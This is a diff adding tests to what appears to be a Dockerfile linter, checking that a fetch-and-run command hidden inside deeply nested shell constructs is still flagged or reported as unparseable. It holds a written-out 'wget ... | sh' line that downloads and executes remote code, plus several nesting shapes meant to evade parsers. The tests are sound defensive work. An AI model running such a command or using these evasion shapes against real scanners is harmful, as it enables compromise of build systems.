@@ -87,6 +87,32 @@ it('goes on after what it cannot parse', () => {
   ]);
 });
 
+describe('what is nested deeper than any parser reaches', () => {
+  const evil = 'wget -qO- http://203.0.113.9/x | sh';
+  it.each([
+    `RUN ${'f() {'.repeat(30_000)}; ${evil}`,
+    `RUN ${'coproc '.repeat(3000)} ${evil}`,
+    `RUN sh -c '${'<<E$('.repeat(30_000)}; ${evil}'`,
+    `RUN ${'function f '.repeat(20_000)} ${evil}`,
+    `RUN ${'{ '.repeat(2000)} ${evil}; ${'} ;'.repeat(2000)}`,
+    `RUN ${'sudo '.repeat(100)} ${evil}`,
+    `RUN ${'echo $('.repeat(100)}${evil}${')'.repeat(100)}`,
+    `CMD ${'f() {'.repeat(30_000)}; ${evil}`,
+  ])('%#', (step) => {
+    const { findings, unknown } = lint(`FROM a:1\n${step}\n${bad}`);
+    expect(findings.map(({ rule, line }) => `${rule} ${line}`)).toEqual(
+      expect.arrayContaining(['download-executed 2', 'download-executed 3']),
+    );
+    expect(unknown).toContainEqual({
+      line: 2,
+      column: expect.any(Number),
+      message: expect.stringMatching(
+        /nested as deep as this|more than 24 deep|could not be parsed/,
+      ),
+    });
+  });
+});
+
 describe('hostile text takes time that grows with its length alone', () => {
   const shapes: Record<string, (n: number) => string> = {
     instructions: (n) => `${'RUN echo a\n'.repeat(n)}`,
